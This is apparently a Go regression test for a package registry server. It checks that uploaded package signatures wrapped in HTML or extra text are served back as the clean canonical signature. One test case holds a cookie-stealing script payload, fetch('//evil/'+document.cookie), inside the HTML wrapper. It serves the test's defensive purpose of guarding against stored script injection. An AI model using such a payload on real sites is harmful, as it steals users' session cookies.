package server_test

import (
	"bytes"
	"context"
	"testing"

	"pkgstore/internal/api"
	"pkgstore/internal/client"
	"pkgstore/internal/testkit/servertest"
	"pkgstore/internal/testkit/ziptest"
)

// TestServedSignatureIsCanonicalArmor: a signature with HTML (or any text)
// around its armor, or in binary, is published as the canonical armor of
// the verified packet; a canonical one is served byte for byte (issue 21,
// item 9: the HTML was stored and served verbatim).
func TestServedSignatureIsCanonicalArmor(t *testing.T) {
	s := servertest.Start(t, servertest.Options{Memory: true})
	for i, tc := range []struct {
		name string
		wrap func(sig []byte) []byte
		keep bool
	}{
		{"canonical", func(sig []byte) []byte { return sig }, true},
		{"HTML around", func(sig []byte) []byte {
			return []byte("<html><head><script>fetch('//evil/'+document.cookie)</script></head><body><pre>\n" + string(sig) + "</pre></body></html>\n")
		}, false},
		{"text after", func(sig []byte) []byte { return append(append([]byte{}, sig...), "\n<!-- mirror note -->\n"...) }, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			version := []string{"1.0.0", "1.0.1", "1.0.2"}[i]
			zip := ziptest.Package(t, "sigwrap", version)
			good := s.Key.Sign(t, zip)
			sent := tc.wrap(good)
			sub, err := s.Client.Publish(context.Background(), "sigwrap-"+version+".zip", bytes.NewReader(zip), sent, client.Options{Legacy: true})
			if err != nil {
				t.Fatal(err)
			}
			if sub.Status != api.StatusPublished {
				t.Fatalf("publish: %s %+v", sub.Status, sub.Reasons)
			}
			s.WaitVisible(t, "sigwrap", version)
			code, served := s.Get(t, "/epr/sigwrap/sigwrap-"+version+".zip.sig")
			if code != 200 {
				t.Fatalf("GET .sig: %d", code)
			}
			if tc.keep && !bytes.Equal(served, sent) {
				t.Fatalf("canonical signature changed:\n%s\nserved\n%s", sent, served)
			}
			if !bytes.Equal(served, good) {
				t.Fatalf("served signature is not the canonical armor:\n%s\nwant\n%s", served, good)
			}
			if _, err := s.Key.Keyring.Verify(bytes.NewReader(zip), bytes.NewReader(served)); err != nil {
				t.Fatalf("served signature does not verify: %v", err)
			}
		})
	}
}
